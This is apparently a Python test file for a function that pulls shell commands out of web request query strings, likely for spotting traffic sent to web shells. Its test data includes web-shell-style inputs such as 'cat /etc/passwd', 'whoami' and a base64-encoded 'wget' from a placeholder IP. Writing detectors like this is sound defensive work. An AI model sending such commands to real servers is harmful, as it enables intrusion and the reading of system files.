from __future__ import annotations

import base64

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pratique.inventory.shown_command import shown_command


@pytest.mark.parametrize(
    ("query", "command"),
    [
        ("cmd=id", "id"),
        ("a=1&cmd=uname%20-a", "uname -a"),
        ("cmd=cat+/etc/passwd", "cat /etc/passwd"),
        ("cmd=/usr/bin/whoami", "/usr/bin/whoami"),
        ("c=ls%20-la", "ls -la"),
        ("exec=" + base64.b64encode(b"wget http://192.0.2.1/x").decode(), "wget http://192.0.2.1/x"),
        ("cmd=" + b"uname -a".hex(), "uname -a"),
    ],
)  # fmt: skip
def test_commands(query, command):
    assert shown_command(query) == command


@pytest.mark.parametrize(
    "query",
    [None, "", "c=id", "page=id", "cmd=login", "cmd=idea", "cmd=view&topic=ls", "e=cat", "cmd=",
     "&".join("a=1" for _ in range(500))],
)  # fmt: skip
def test_no_commands(query):
    assert shown_command(query) is None


def test_what_a_known_shell_is_sent_may_be_short():
    assert shown_command("c=id", of_shell=True) == "id"
    assert shown_command("page=id", of_shell=True) is None


@given(st.text())
def test_any_text_is_answered(query):
    shown_command(query)
    shown_command("cmd=" + query)
